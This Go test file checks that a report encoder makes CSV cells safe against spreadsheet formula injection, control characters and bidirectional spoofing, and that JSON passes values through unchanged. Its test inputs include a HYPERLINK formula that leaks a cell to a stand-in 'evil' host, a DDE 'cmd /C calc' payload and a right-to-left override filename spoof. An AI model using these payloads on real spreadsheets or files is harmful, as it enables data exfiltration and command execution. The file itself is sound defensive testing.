package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/fanout-dev/fanout/record"
)

// wantCell is what a spreadsheet must see for v, written here apart from
// the encoder: C0, DEL, C1 and the bidirectional controls, and invalid
// UTF-8, become U+FFFD; then a cell starting a formula gets a quote.
func wantCell(v string) string {
	var b strings.Builder
	for _, r := range v { // range gives U+FFFD for invalid UTF-8
		switch {
		case r < 0x20, r >= 0x7f && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			b.WriteRune(utf8.RuneError)
		default:
			b.WriteRune(r)
		}
	}
	s := b.String()
	if s != "" && (s[0] == '=' || s[0] == '+' || s[0] == '-' || s[0] == '@') {
		return "'" + s
	}
	return s
}

// csvRoundTrip encodes r as CSV and reads it back with encoding/csv.
func csvRoundTrip(t *testing.T, r *record.Result) []string {
	t.Helper()
	enc, _ := NewEncoder("csv", false)
	var buf bytes.Buffer
	enc.Header(&buf)
	if err := enc.Record(&buf, r, true); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read %q: %v", buf.String(), err)
	}
	if len(rows) != 2 || len(rows[1]) != len(DefaultFields) {
		t.Fatalf("%d rows, %v", len(rows), rows)
	}
	return rows[1]
}

func checkCSV(t *testing.T, r *record.Result) {
	t.Helper()
	row := csvRoundTrip(t, r)
	for name, c := range map[string]string{"url": r.URL, "title": r.Title, "final_url": r.FinalURL, "content_type": r.ContentType, "error": r.Error} {
		if i := slices.Index(DefaultFields, name); row[i] != wantCell(c) {
			t.Errorf("%s cell %q from %q, want %q", DefaultFields[i], row[i], c, wantCell(c))
		}
	}
	for i, c := range row {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("%s cell %q starts a formula", DefaultFields[i], c)
		}
		if strings.ContainsFunc(c, func(r rune) bool { return r < 0x20 || r >= 0x7f && r <= 0x9f }) {
			t.Errorf("%s cell %q holds a control character", DefaultFields[i], c)
		}
	}
}

func TestCSVCellsCannotAttackASpreadsheet(t *testing.T) {
	tests := []struct {
		name string
		r    record.Result
	}{
		{"plain", record.Result{URL: "http://a/", Title: "Home - Example", FinalURL: "http://a/", ContentType: "text/html"}},
		{"formula title", record.Result{URL: "http://a/", Title: `=HYPERLINK("http://evil/?"&A1,"click")`}},
		{"plus, minus, at", record.Result{URL: "+1", Title: "-2+3", FinalURL: "@SUM(A1:A9)", Error: "-x"}},
		{"tab and CR starts", record.Result{URL: "\t=1", Title: "\r=cmd|' /C calc'!A0"}},
		{"controls inside", record.Result{URL: "http://a/", Title: "a\x00b\x1b[31mc\nd\u0085e\x7f", Error: "line1\r\nline2"}},
		{"bidi", record.Result{Title: "\u202Egnp.exe\u202C \u2066x\u2069", URL: "http://a/\u202a"}},
		{"invalid UTF-8", record.Result{Title: "caf\xe9 \xff"}},
		{"quotes and commas", record.Result{Title: `say "hi", then '=bye'`}},
		{"a quote first stays", record.Result{Title: "'=already"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { checkCSV(t, &tt.r) })
	}
}

func FuzzCSVRecord(f *testing.F) {
	f.Add("http://a/", "=1+2", "\t-x", "@a\x1b")
	f.Add("\u202e", "\r\n", "\xff", "\"")
	f.Fuzz(func(t *testing.T, url, title, finalURL, msg string) {
		checkCSV(t, &record.Result{URL: url, Title: title, FinalURL: finalURL, Error: msg, ErrorKind: record.KindDNS})
	})
}

// TestJSONIsNotNeutralised checks that what CSV and text neutralise reaches
// JSON byte for byte as encoding/json writes it.
func TestJSONIsNotNeutralised(t *testing.T) {
	r := record.Result{URL: "=1", Title: "\u202Eevil\x1b[0m", Error: "@x", ErrorKind: record.KindDNS}
	enc, _ := NewEncoder("jsonl", false)
	var buf bytes.Buffer
	if err := enc.Record(&buf, &r, true); err != nil {
		t.Fatal(err)
	}
	if want := wantFields(t, &r, DefaultFields); buf.String() != want+"\n" {
		t.Errorf("jsonl %q, want %q", buf.String(), want)
	}
}

func TestTextKeepsBidiControlsOffTheTerminal(t *testing.T) {
	enc, _ := NewEncoder("text", false)
	var buf bytes.Buffer
	r := record.Result{URL: "http://x/\u2067", Status: 200, Attempts: 1, Title: "\u202Egnp.exe \u2066x\u2069 \u202a\u202b\u202c\u202d"}
	if err := enc.Record(&buf, &r, true); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if strings.ContainsFunc(out, func(r rune) bool { return r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 }) {
		t.Errorf("text line %q holds a bidirectional control", out)
	}
	if !strings.Contains(out, "\uFFFDgnp.exe \uFFFDx\uFFFD") {
		t.Errorf("text line %q", out)
	}
}
